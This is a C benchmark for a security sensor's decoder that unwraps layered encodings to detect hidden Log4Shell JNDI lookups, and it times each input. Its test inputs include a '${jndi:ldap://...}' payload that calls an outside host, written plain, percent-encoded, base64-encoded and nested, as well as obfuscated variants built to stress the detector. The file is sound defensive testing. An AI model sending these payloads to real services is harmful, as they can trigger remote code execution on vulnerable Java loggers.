/* peel_bench: what the peeler and its cheap check cost, on plain wrappings and on the worst that is
 * known.
 *
 * Prints for each text its length, the class, the time per text, the fuel used, and the speed of
 * peel_may_hide() on it. The last line is the longest time of all: with the default fuel it is what
 * a field can cost. With an argument only the text of that name is measured, for a profiler. */
#include "sensor/base/sbuf.h"
#include "signatures/peel.h"

#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

enum { TEXT_CAP = 64 * 1024, MIN_US = 100000 };

static struct peeler *peeler;
static double longest_us;
static const char *only; /* the name of the text to measure; NULL for all */

/* Of this process: other load on the machine does not count. */
static uint64_t cpu_us(void)
{
    return (uint64_t)clock() * 1000000 / CLOCKS_PER_SEC;
}

static double may_hide_speed(struct span text)
{
    volatile bool hides = false;
    uint64_t n = 0;
    uint64_t start = cpu_us();
    uint64_t took = 0;
    for (uint64_t batch = 1; took < MIN_US; batch *= 2) {
        for (uint64_t i = 0; i < batch; i++) {
            hides = peel_may_hide(text) || hides;
        }
        n += batch;
        took = cpu_us() - start;
    }
    return (double)took * 1000 / (double)n;
}

static void measure(const char *name, struct span text)
{
    if (only != NULL && strcmp(only, name) != 0) {
        return;
    }
    uint64_t fuel = 0;
    struct peel_hints hints = {.fuel = &fuel};
    struct peel_result result = {0};
    uint64_t n = 0;
    uint64_t start = cpu_us();
    uint64_t took = 0;
    for (uint64_t batch = 1; took < MIN_US; batch *= 2) {
        for (uint64_t i = 0; i < batch; i++) {
            fuel = PEEL_FUEL;
            (void)peel_and_evaluate(peeler, text, &hints, &result);
        }
        n += batch;
        took = cpu_us() - start;
    }
    double us = (double)took / (double)n;
    longest_us = us > longest_us ? us : longest_us;
    printf("%-26s %6zu bytes  %-11s %s %9.2f us %8" PRIu64 " units; check %9.0f ns\n", name,
           text.len, lookup_class_name(result.lookup.class),
           result.lookup.over_budget ? "over" : "    ", us, PEEL_FUEL - fuel, may_hide_speed(text));
}

/* `piece` as often as it fits into TEXT_CAP, then `end`. */
static void measure_many(const char *name, struct span piece, struct span end)
{
    struct sbuf text = sbuf_with_cap(TEXT_CAP);
    while (text.len + piece.len + end.len <= TEXT_CAP) {
        sbuf_add(&text, piece);
    }
    sbuf_add(&text, end);
    measure(name, sbuf_span(&text));
    sbuf_free(&text);
}

/* `start`, then `c` up to TEXT_CAP. */
static void measure_behind(const char *name, struct span start, uint8_t c)
{
    struct sbuf text = sbuf_with_cap(TEXT_CAP);
    sbuf_add(&text, start);
    while (text.len < TEXT_CAP) {
        sbuf_add_byte(&text, c);
    }
    measure(name, sbuf_span(&text));
    sbuf_free(&text);
}

int main(int argc, char **argv)
{
    only = argc > 1 ? argv[1] : NULL;
    static const struct span attack = SPAN_LITERAL("${ jndi :x:y}");
    peeler = peeler_new();
    if (peeler == NULL) {
        return EXIT_FAILURE;
    }
    measure("plain", SPAN("${jndi:ldap://203.0.113.9/a}"));
    measure("percent", SPAN("%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"));
    measure("base64", SPAN("JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hfQ=="));
    measure("percent of base64 of json",
            SPAN("XHUwMDI0e2puZGk6bGRhcDovLzIwMy4wLjExMy45L2F9%3D%3D"));
    measure("harmless query", SPAN("/a?b=%7B%22c%22%3A%24%7Bd%7D%7D&e=f+g&h=%E2%82%AC"));
    measure("harmless user agent", SPAN("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"));
    measure_many("harmless template", SPAN("<a href=\"${url}\">${name}</a> "), SPAN(""));
    measure_many("harmless json", SPAN("{\"a\":\"\\u003cb\\u003e\",\"c\":12345},"), SPAN(""));
    measure_many("base64 of data", SPAN("q83vEjRWeJq83vASNFZ4mrze8BI0VniavN7w"), attack);
    measure_many("base64 of text", SPAN("JHtqbmR4Ong6eX0gJHtqbmR4Ong6eX0g"), attack);
    measure_many("base64 pieces", SPAN("JHtqbmRpYTp4fQ== "), attack);
    measure_many("percent decoys", SPAN("%252525252525"), attack);
    measure_many("mixed decoys", SPAN("%2525 &amp;amp; \\\\\\\\u0031 =3D3D "), attack);
    measure_many("escapes of all kinds", SPAN("%41&#65;\\x41=41+AEE-\xc1\x81"), attack);
    measure_many("growing", SPAN("$${event:Message} ${z} %24 "), SPAN("${jndi"));
    measure_many("unknown", SPAN("${a${b}%7d"), attack);
    measure_many("utf-16", SPAN("$\0{\0j\0n\0d\0x\0"), attack);
    measure_many("words", SPAN("=?utf-8?B?JHtqbmR4?= =?euc-jp?Q?=24=A4?= "), attack);
    measure_many("backslashes", SPAN("\\\\"), SPAN("${jndi\\u007d"));
    measure_many("openers", SPAN("${"), SPAN("jndi%3A"));
    /* found by search: the worst before what they are made of was charged, or made cheap */
    measure_many("ampersands", SPAN("&&"),
                 SPAN("SkhzSmFtNWthJHtqbmRp=3D\xc1\xbb&lbrace;\xe0\x80\xa4\\u007b}"));
    measure_many("heads of words", SPAN("?="),
                 SPAN("=7B&amp;amp;=?euc-jp?B?\xc0\xa4${upper:\xc4\xb1}\\u007b$&lbrace;%41"));
    measure_behind("NULs behind an opener", SPAN("/%25\xc4\xb1$${"), 0);
    measure_many("plus signs", SPAN("+"), SPAN("\\u0024${url:"));
    measure_many(
        "names and an escape", SPAN("${a}"),
        SPAN("\xc1\xbbj${url:\\u007b\\JTI0JTdCan=\r\n%24a#{\xf0\x80\x80\xa4${lower:j}&#36;%24"));
    measure_many("base64, overlong, names", SPAN("SkhzSmFtNWth\xc1\xbb${a}j\0"), SPAN("#{i"));
    measure_many("quotes and braces", SPAN("JTI0JTdC$"),
                 SPAN("\\u007b${event:Message}=3D%7BSkhzSmFtNWth?=&#36;"));
    measure_many("blanks and all layers", SPAN("/a"),
                 SPAN("SkhzSmFtNWth\xc0\xa4${::-\\x24&jSkhzSmFtNWth=7B\\u{24}"));
    measure_many("members of gzip",
                 SPAN("H4sIAAAAAAACAwMAAAAAAAAAAAAfiwgAAAAAAAID"
                      "AwAAAAAAAAAAAB+LCAAAAAAAAgMDAAAAAAAAAAAA"),
                 SPAN(" ${jnd"));
    measure_many("names and layers", SPAN("${z}\xe2\x84\xaa\xff"),
                 SPAN("&amp;=?a?Q?=24?=\xc1\xbb%24JHtqbmRp&lbrace;${z}"));
    measure_many("dotless names", SPAN("\xc4\xb1${}"), SPAN("&amp;\\%2524?=JTI0JTdCH4sIAAAAAAAA"));
    printf("longest: %.0f us\n", longest_us);
    peeler_free(&peeler);
    return EXIT_SUCCESS;
}
